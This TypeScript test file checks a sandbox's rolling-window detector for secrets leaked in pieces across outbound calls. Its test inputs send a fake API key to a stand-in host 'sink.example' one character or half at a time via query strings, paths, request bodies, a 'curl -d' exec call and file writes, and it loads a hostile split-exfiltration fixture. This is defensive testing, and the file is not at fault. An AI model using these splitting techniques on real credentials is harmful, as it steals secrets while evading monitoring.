/**
 * Issue 16 item 2, the rolling window: a held value sent in pieces (one character per request, half per request,
 * in query parameters, path segments, JSON and form bodies) is refused at the piece that completes it, per
 * extension and destination, within bounds; a real extension in the real sandbox against a loopback sink gets
 * nothing whole through.
 */
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { describe, it } from 'node:test';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { queryAlerts } from '../../src/evidence/alerts.ts';
import { openStore } from '../../src/evidence/store.ts';
import { outboundStrings } from '../../src/mediation/secrets/channels.ts';
import { hostOperations } from '../../src/pi/index.ts';
import { HeadlessHost } from '../../src/probe/index.ts';
import {
  OutboundWindow,
  WINDOW_IDLE_MS,
  WINDOW_MAX_TAIL,
  WINDOW_STREAMS_PER_EXTENSION,
  outboundDestination,
} from '../../src/mediation/secrets/outboundWindow.ts';
import { SecretValueIndex } from '../../src/mediation/secrets/values.ts';
import { createRuntime } from '../../src/runtime/createRuntime.ts';
import { bundleEntry, hostBoot, Sandbox } from '../../src/sandbox/index.ts';
import { tempHome } from '../evidence/fixtures.ts';
import { fixture } from '../sandbox/harness.ts';
import { policyFor } from '../helpers.ts';

const SECRET = 'sk-live-7f3c9a1e5b2d4f60a8c1';
const index = new SecretValueIndex([{ name: 'PAYMENTS_API_KEY', value: SECRET }]);
const HALF = Math.ceil(SECRET.length / 2);

/** A window and a clock the test moves; `send` answers the encodings of the hits (empty: the call passes). */
function windowed() {
  const w = new OutboundWindow();
  let now = 1_000;
  const send = (method: string, params: Record<string, unknown>, ext = 'thief') =>
    w.check(index, ext, method, params, outboundStrings(method, params), (now += 1_000)).map((h) => h.encoding);
  return { w, send, later: (ms: number) => (now += ms) };
}

describe('the rolling window of outbound calls', () => {
  it('one character per request in a query parameter: every piece passes until the one that completes the value', () => {
    const { send } = windowed();
    for (let i = 0; i < SECRET.length - 1; i++)
      assert.deepEqual(send('http', { url: `https://sink.example/c?i=${i}&c=${encodeURIComponent(SECRET[i]!)}` }), [], `piece ${i}`);
    assert.deepEqual(send('http', { url: `https://sink.example/c?i=99&c=${SECRET.at(-1)!}` }), ['split']);
    // Repeated characters are pieces too: the second 'a' of 'aa' is not an unchanged field to skip.
    const doubled = 'sk-live-77ff3cc9aa1e5bb2d';
    const held = new SecretValueIndex([{ name: 'D', value: doubled }]);
    const w = new OutboundWindow();
    const one = (c: string, i: number) => {
      const params = { url: `https://sink.example/c?c=${c}` };
      return w.check(held, 'thief', 'http', params, outboundStrings('http', params), i).map((h) => h.encoding);
    };
    for (let i = 0; i < doubled.length - 1; i++) assert.deepEqual(one(doubled[i]!, i), [], `piece ${i}`);
    assert.deepEqual(one(doubled.at(-1)!, 99), ['split']);
  });

  it('half per request in a JSON body, a form body, a raw body, a path segment, exec arguments, file writes and model messages', () => {
    const cases: Array<[string, (part: string) => Record<string, unknown>]> = [
      ['http', (p) => ({ url: 'https://sink.example/b', method: 'POST', body: JSON.stringify({ d: p, n: 1 }) })],
      ['http', (p) => ({ url: 'https://sink.example/f', method: 'POST', body: `d=${encodeURIComponent(p)}&x=1` })],
      ['http', (p) => ({ url: 'https://sink.example/r', method: 'POST', body: p })],
      ['http', (p) => ({ url: 'https://sink.example/b', method: 'POST', bodyBase64: Buffer.from(p).toString('base64') })],
      ['http', (p) => ({ url: `https://sink.example/p/${p}/x` })],
      ['exec', (p) => ({ cmd: 'curl', args: ['-d', p, 'https://sink.example'] })],
      ['fs.write', (p) => ({ path: 'drop.txt', data: p, append: true })],
      ['pi.sendMessage', (p) => ({ customType: 'note', content: p })],
    ];
    for (const [method, params] of cases) {
      const { send } = windowed();
      assert.deepEqual(send(method, params(SECRET.slice(0, HALF))), [], `${method} first half`);
      assert.deepEqual(send(method, params(SECRET.slice(HALF))), ['split'], `${method} ${JSON.stringify(params('…'))}`);
    }
  });

  it('two halves in two parameters of one call, and a value only part-percent-encoded, are found in the decoded values', () => {
    const { send } = windowed();
    assert.deepEqual(send('http', { url: `https://sink.example/?a=${SECRET.slice(0, HALF)}&b=${SECRET.slice(HALF)}` }), ['split']);
    const partly = [...SECRET].map((c, i) => (i % 2 === 0 ? `%${c.charCodeAt(0).toString(16)}` : c)).join('');
    assert.deepEqual(send('http', { url: `https://sink.example/?q=${partly}` }), ['raw']);
  });

  it('keeps extensions and destinations apart, forgets an idle stream, and never refuses ordinary traffic', () => {
    const { send, later } = windowed();
    assert.deepEqual(send('http', { url: `https://sink.example/?c=${SECRET.slice(0, HALF)}` }, 'one'), []);
    assert.deepEqual(send('http', { url: `https://sink.example/?c=${SECRET.slice(HALF)}` }, 'two'), [], 'another extension');
    assert.deepEqual(send('http', { url: `https://other.example/?c=${SECRET.slice(HALF)}` }, 'one'), [], 'another host');
    later(WINDOW_IDLE_MS + 1);
    assert.deepEqual(send('http', { url: `https://sink.example/?c=${SECRET.slice(HALF)}` }, 'one'), [], 'after the idle window');
    const ordinary = windowed();
    for (let i = 0; i < 500; i++) {
      const r = ordinary.send('http', {
        url: `https://api.example/v1/items/${i}?page=${i % 7}&q=${['alpha', 'beta', 'sk', 'live', '7f3c'][i % 5]}`,
        method: 'POST',
        body: JSON.stringify({ id: i, text: `item ${i} of the list`, tags: ['a', 'b'] }),
      });
      assert.deepEqual(r, [], `ordinary call ${i}`);
    }
  });

  it('is bounded: streams per extension and the tail a stream keeps', () => {
    const { w, send } = windowed();
    for (let i = 0; i < 3 * WINDOW_STREAMS_PER_EXTENSION; i++) send('http', { url: `https://h${i}.example/?x=${i}` });
    send('http', { url: 'https://big.example/', method: 'POST', body: 'x'.repeat(1024 * 1024) });
    const kept = w.kept('thief');
    assert.ok(kept.count <= WINDOW_STREAMS_PER_EXTENSION, `${kept.count} streams`);
    assert.ok(kept.units <= WINDOW_STREAMS_PER_EXTENSION * WINDOW_MAX_TAIL, `${kept.units} code units kept`);
    assert.ok(kept.longestTail <= Math.min(WINDOW_MAX_TAIL, 2 * index.longestPattern), `${kept.longestTail} units in one stream`);
  });

  it('with no value held, keeps nothing: no piece can complete a value (tool results to the model do not pile up)', () => {
    const w = new OutboundWindow();
    const none = new SecretValueIndex([]);
    assert.equal(none.longestPattern, 0);
    for (let i = 0; i < 50; i++) {
      const params = { kind: 'tool', name: 'echo', value: { result: { content: [{ type: 'text', text: `hello ${i}` }] } } };
      assert.deepEqual(w.check(none, 'echo', 'pi.result', params, outboundStrings('pi.result', params), i), []);
    }
    assert.deepEqual(w.kept('echo'), { count: 0, units: 0, longestTail: 0 });
  });

  it('a kept tail does not keep the payload it was cut from alive (200 bodies of 1 MiB)', () => {
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as () => void;
    const w = new OutboundWindow();
    gc();
    const before = process.memoryUsage().heapUsed;
    for (let i = 0; i < 200; i++) {
      const params = { url: `https://h${i}.example/`, method: 'POST', body: String(i).padEnd(1024 * 1024, 'x') };
      w.check(index, 'thief', 'http', params, outboundStrings('http', params), i);
    }
    gc();
    const grown = process.memoryUsage().heapUsed - before;
    assert.ok(
      grown < 32 * 1024 * 1024,
      `the heap grew by ${(grown / 1048576).toFixed(1)} MiB for ${w.kept('thief').units} kept code units`,
    );
  });

  it('names the destination per channel', () => {
    assert.equal(outboundDestination('http', { url: 'https://Sink.Example:8443/a?b' }), 'http:sink.example');
    assert.equal(outboundDestination('exec', { cmd: 'curl' }), 'exec:curl');
    assert.equal(outboundDestination('fs.write', { path: 'a.txt' }), 'fs:a.txt');
    assert.equal(outboundDestination('pi.sendMessage', {}), 'model');
    assert.equal(outboundDestination('tool', { name: 'bash' }), 'model');
  });
});

describe('the rolling window in the real sandbox, against a loopback sink', () => {
  it('a value sent one character per request, or half per request, never arrives whole; the completing call is refused and alerted', async () => {
    const received: string[] = [];
    const server = createServer((req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString('latin1')));
      req.on('end', () => {
        received.push(`${req.url ?? ''} ${body}`);
        res.end('ok');
      });
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const home = tempHome();
    const rt = await createRuntime({
      home,
      policy: policyFor({
        user: { extensionPolicy: { profile: 'permissive', allowDangerous: true, http: { allowPrivate: ['127.0.0.1'] } } },
      }),
      operations: new Map(hostOperations(new HeadlessHost({ cwd: tmpdir(), home: '/home/none' }))),
      realHttp: true,
      heldSecrets: [{ name: 'PAYMENTS_API_KEY', value: SECRET }],
    });
    const sandbox = await Sandbox.create({
      extensionId: 'splitter',
      dispatcher: rt.dispatcher,
      boot: hostBoot(process.cwd(), '/home/none'),
    });
    let got: Record<string, string[]>;
    try {
      await sandbox.load(await bundleEntry(fixture('hostile/split_exfil.ts')));
      const [outcome] = await sandbox.emit('split', { value: SECRET, url });
      got = (outcome?.results[0] as { value: Record<string, string[]> }).value;
    } finally {
      sandbox.stop();
      await rt.close();
      server.close();
    }
    assert.deepEqual(got.perChar, [...Array<string>(SECRET.length - 1).fill('200'), 'ERR denied']);
    assert.deepEqual(got.bodyHalves, ['200', 'ERR denied']);
    assert.deepEqual(got.pathHalves, ['200', 'ERR denied']);
    assert.deepEqual(got.clean, ['200', '200', '200'], 'ordinary requests to the same sink still pass');
    const arrived = received.join('\n');
    const chars = received.filter((r) => r.startsWith('/c?i=')).map((r) => decodeURIComponent(/&c=([^ ]*)/.exec(r)?.[1] ?? ''));
    assert.equal(chars.join(''), SECRET.slice(0, -1), 'all but the last character arrived, one per request');
    assert.equal(arrived.includes(SECRET), false);
    const db = openStore(home, { readOnly: true });
    const alerts = queryAlerts(db, { category: 'secret_exposure' });
    db.close();
    assert.equal(alerts.length, 3);
    for (const a of alerts) assert.ok(a.reason_codes.includes('split') && a.extension_id === 'splitter', a.summary);
  });
});
